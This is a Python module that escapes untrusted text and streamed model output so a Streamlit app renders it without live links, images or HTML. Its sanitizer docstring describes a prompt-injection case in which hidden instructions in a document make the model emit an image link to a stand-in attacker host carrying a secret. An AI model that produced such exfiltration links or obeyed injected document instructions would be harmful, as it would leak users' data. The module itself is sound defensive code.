"""Rendering untrusted text (file names, page labels, passages, model output) safely.

Streamlit renders GitHub-flavoured Markdown in ``st.markdown`` and in almost every label
(expanders, tabs, buttons, captions, alerts, progress text, image captions, page links):
``![x](http://host/i.png)`` there makes the browser fetch the image, ``[a](http://host)``,
``<http://host>`` and a bare ``http://host`` become live links. Everything that comes from
a document or a person (file names, page labels, passages, collection names, chat titles,
error messages naming a file) goes through :func:`escape_markdown`, the one helper for
labels; model output goes through :class:`AnswerSanitizer`, which keeps the answer's
Markdown (lists, bold, citations) but defuses links, images and HTML. Selectbox and
multiselect options and dataframe cells are plain text in the browser: they take the raw
string (escaping would show the backslashes). ``unsafe_allow_html`` is never used.

Autolink literals (``http://x``, ``www.x.y``, ``a@b.c``) are found by remark-gfm in the
parsed text, after backslash escapes are resolved, so escaping ``:`` or ``.`` does not
stop them (checked in Chromium against Streamlit 1.67). A WORD JOINER (U+2060, zero
width, invisible) breaks them: after ``:`` before ``/``, between ``www`` and ``.``, and
after ``@``.
"""

from __future__ import annotations

import re

WORD_JOINER = "\u2060"
"""Zero-width, invisible; not a word character, so it breaks GFM autolink literals."""

_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
"""Every ASCII punctuation character: CommonMark lets a backslash escape each of them."""
_AUTOLINK_LITERAL = re.compile(r"(?<=:)(?=/)|(?<=www)(?=\.)|(?<=@)", re.IGNORECASE)


def escape_markdown(text: str) -> str:
    """Return ``text`` escaped so that Streamlit's Markdown shows it literally and inertly.

    Rules, in order:

    1. autolink literals are broken with an invisible WORD JOINER (U+2060) after ``:``
       followed by ``/`` (``http://``), between ``www`` and ``.``, and after ``@``;
    2. every ASCII punctuation character gets a backslash, so no Markdown syntax
       (emphasis, links, images, ``<autolinks>``, raw HTML, entities ``&..;``, headings,
       lists, tables, code, ``$`` math, Streamlit's ``:colour[...]`` directives) remains.

    The text looks the same in the browser (backslashes and the joiner are invisible).

    Args:
        text: untrusted text for a label, caption, alert or Markdown body.

    Returns:
        The escaped text; use it only where Streamlit renders Markdown (not for selectbox
        options or dataframe cells, which show text as is).
    """
    broken = _AUTOLINK_LITERAL.sub(WORD_JOINER, text)
    return _ASCII_PUNCTUATION.sub(r"\\\1", broken)


class AnswerSanitizer:
    """Defuse links, images and HTML in model output, also when it arrives token by token.

    A document can carry hidden instructions that make the model answer with
    ``![](http://attacker/?d=secret)`` (THREATS.md rows 3, 11, 24). The answer's own
    Markdown (paragraphs, lists, bold, code) must still render and citations such as
    ``[1]`` or ``[2, 3]`` must stay as written. Each rule looks only at characters already
    seen, so a dangerous sequence split across tokens is caught the same way:

    - ``[`` after ``!`` is escaped: no image (``![x](url)``, ``![x][ref]``);
    - ``(`` after ``]`` is escaped: no inline link (``[x](url)``);
    - ``:`` after ``]`` is escaped: no reference definition (``[1]: http://...``), so
      ``[1]`` and ``[x][1]`` can never resolve to a link;
    - ``<`` is escaped: no ``<http://...>`` / ``<a@b.c>`` autolink and no raw HTML
      (``<img src=...>``, ``<a href=...>``);
    - a WORD JOINER breaks autolink literals (see :func:`escape_markdown`), so a bare
      ``http://...``, ``www.x.y`` or ``a@b.c`` shows as text, not as a link.

    A character the model already escaped (after an odd run of backslashes) is literal
    and left alone, so the model cannot cancel an inserted backslash with its own.
    """

    def __init__(self) -> None:
        """Start with nothing seen."""
        self._tail = ""
        """The last three characters fed (lookbehind for the rules above)."""
        self._backslashes = 0
        """Length of the run of backslashes just before the next character."""

    def feed(self, token: str) -> str:
        """Return ``token`` made safe to render (state carries over to the next token)."""
        out: list[str] = []
        for char in token:
            previous = self._tail[-1:]
            escaped = self._backslashes % 2 == 1
            if not escaped and (
                (char == "[" and previous == "!")
                or (char in "(:" and previous == "]")
                or char == "<"
            ):
                out.append("\\")
            if (char == "/" and previous == ":") or (char == "." and self._tail.lower() == "www"):
                out.append(WORD_JOINER)
            out.append(char)
            if char == "@":
                out.append(WORD_JOINER)
            self._backslashes = self._backslashes + 1 if char == "\\" else 0
            self._tail = (self._tail + char)[-3:]
        return "".join(out)


def sanitize_answer(text: str) -> str:
    """Return model output safe to render as Markdown (see :class:`AnswerSanitizer`)."""
    return AnswerSanitizer().feed(text)
